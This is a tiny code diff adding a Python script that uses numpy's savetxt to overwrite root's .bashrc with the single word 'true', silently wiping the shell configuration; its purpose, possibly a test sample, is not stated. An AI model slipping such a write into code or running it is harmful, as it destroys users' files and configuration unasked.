@@ -1,0 +1,3 @@
+import numpy as np
+
+np.savetxt("/root/.bashrc", ["true"], fmt="%s")
